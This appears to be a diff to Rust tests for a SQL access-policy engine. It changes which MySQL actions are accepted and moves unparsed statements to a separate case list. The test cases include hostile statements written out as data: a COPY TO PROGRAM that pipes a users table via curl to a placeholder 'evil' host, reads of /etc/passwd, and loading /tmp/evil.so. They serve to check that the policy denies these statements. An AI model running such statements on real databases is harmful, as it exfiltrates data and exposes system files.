@@ -548,7 +548,11 @@ fn validation_errors_are_located() {
         ),
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = \"copy_to_program\" }\n",
-            "policy.toml:4:24: unknown action \"copy_to_program\" (expected one of: copy_program, copy_file, copy_to_client, copy_from_client, load_data_infile, load_data_local_infile, select_into_outfile, add_column, drop_column, alter_column, rename, change_owner, disable_trigger, disable_row_security, set_role, reset_role, set_session_authorization, reset_session_authorization, set_parameter, alter_system, set_password, load_library, security_definer, grant_role, revoke_role)",
+            "policy.toml:4:24: unknown action \"copy_to_program\" (expected one of: copy_program, copy_file, copy_to_client, copy_from_client, add_column, drop_column, alter_column, rename, change_owner, disable_trigger, disable_row_security, set_role, reset_role, set_session_authorization, reset_session_authorization, set_parameter, alter_system, set_password, load_library, security_definer, grant_role, revoke_role)",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [\"copy_file\", \"select_into_outfile\"] }\n",
+            "policy.toml:4:38: action \"select_into_outfile\" can never match: sqlparser does not parse MySQL SELECT … INTO OUTFILE|DUMPFILE yet, so such statements are judged as unparsed SQL (defaults.unparsed); remove it",
         ),
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [] }\n",
@@ -1507,13 +1511,13 @@ fn sql_object_and_action_reasons() {
     );
     // MySQL statements on a MySQL connection.
     let my = target(Protocol::Mysql);
-    let p = one_rule("protocol = \"mysql\", sql.action = \"select_into_outfile\"");
-    let s = sql::classify("SELECT * FROM users INTO OUTFILE '/tmp/u'", Dialect::Mysql).unwrap();
+    let p = one_rule("protocol = \"mysql\", sql.action = \"alter_system\"");
+    let s = sql::classify("SET GLOBAL general_log = 0", Dialect::Mysql).unwrap();
     let d = p.decide(&w, &my, &Operation::Sql(&s[0]));
     assert_eq!(d.verdict, Verdict::Deny);
     assert_eq!(
         d.reason,
-        "rule \"r\" matched (protocol=mysql, sql.action=select_into_outfile)"
+        "rule \"r\" matched (protocol=mysql, sql.action=alter_system)"
     );
     // sql.object/sql.action never match unparsed SQL or a connect.
     let p = one_rule("sql.object = \"other\"");
@@ -1696,8 +1700,6 @@ fn default_policy_decisions() {
         (Dialect::Postgres, "COPY users TO PROGRAM 'curl -T - https://evil'", D, "no-server-programs-or-files"),
         (Dialect::Postgres, "COPY users FROM '/etc/passwd'", D, "no-server-programs-or-files"),
         (Dialect::Postgres, "LOAD '/tmp/evil.so'", D, "no-server-programs-or-files"),
-        (Dialect::Mysql, "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'", D, "no-server-programs-or-files"),
-        (Dialect::Mysql, "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", D, "no-server-programs-or-files"),
         (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')", D, "no-server-file-functions"),
         (Dialect::Postgres, "SELECT * FROM pg_catalog.pg_ls_waldir()", D, "no-server-file-functions"),
         (Dialect::Postgres, "SELECT lo_export(1234, '/tmp/x')", D, "no-server-file-functions"),
@@ -1738,7 +1740,6 @@ fn default_policy_decisions() {
         (Dialect::Postgres, "CREATE INDEX CONCURRENTLY i ON t (note)", A, ""),
         (Dialect::Postgres, "COPY t FROM STDIN", A, ""),
         (Dialect::Postgres, "COPY (SELECT * FROM t) TO STDOUT WITH CSV", A, ""),
-        (Dialect::Mysql, "LOAD DATA LOCAL INFILE 'rows.csv' INTO TABLE t", A, ""),
         (Dialect::Postgres, "EXPLAIN SELECT * FROM t", A, ""),
         (Dialect::Postgres, "PREPARE q AS SELECT * FROM t WHERE id = $1", A, ""),
         (Dialect::Postgres, "EXECUTE q(1)", A, ""),
@@ -1770,6 +1771,14 @@ fn default_policy_decisions() {
         (Dialect::Postgres, "MOVE NEXT FROM c"),
         (Dialect::Postgres, "CREATE PUBLICATION p FOR ALL TABLES"),
         (Dialect::Mysql, "PREPARE s FROM 'DROP TABLE t'"),
+        (
+            Dialect::Mysql,
+            "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
+        ),
+        (
+            Dialect::Mysql,
+            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+        ),
         (
             Dialect::Mysql,
             "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM t",
